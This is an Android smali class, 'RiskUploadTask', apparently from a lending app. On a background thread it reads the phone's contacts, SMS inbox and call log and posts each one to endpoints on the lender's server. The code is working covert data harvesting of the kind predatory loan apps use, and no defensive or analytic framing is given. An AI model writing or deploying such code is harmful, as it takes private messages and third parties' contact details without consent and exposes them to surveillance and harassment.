# SPDX-License-Identifier: Apache-2.0
# Runs on a background thread: reads the address book, the SMS inbox and the call log, and posts
# all three to the lender's server.
.class public Lcom/example/jiyongqian/RiskUploadTask;
.super Ljava/lang/Object;
.source "RiskUploadTask.java"
.implements Ljava/lang/Runnable;

.field private final resolver:Landroid/content/ContentResolver;

.method public constructor <init>(Landroid/content/ContentResolver;)V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcom/example/jiyongqian/RiskUploadTask;->resolver:Landroid/content/ContentResolver;
    return-void
.end method

.method public run()V
    .registers 5
    iget-object v0, p0, Lcom/example/jiyongqian/RiskUploadTask;->resolver:Landroid/content/ContentResolver;

    invoke-static {v0}, Lcom/example/jiyongqian/DeviceRecords;->readContacts(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    const-string v2, "https://api.jiyongqian.example.com/risk/contacts"
    invoke-static {v2, v1}, Lcom/example/jiyongqian/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V

    invoke-static {v0}, Lcom/example/jiyongqian/DeviceRecords;->readSms(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    const-string v2, "https://api.jiyongqian.example.com/risk/sms"
    invoke-static {v2, v1}, Lcom/example/jiyongqian/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V

    invoke-static {v0}, Lcom/example/jiyongqian/DeviceRecords;->readCallLog(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    const-string v2, "https://api.jiyongqian.example.com/risk/calls"
    invoke-static {v2, v1}, Lcom/example/jiyongqian/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
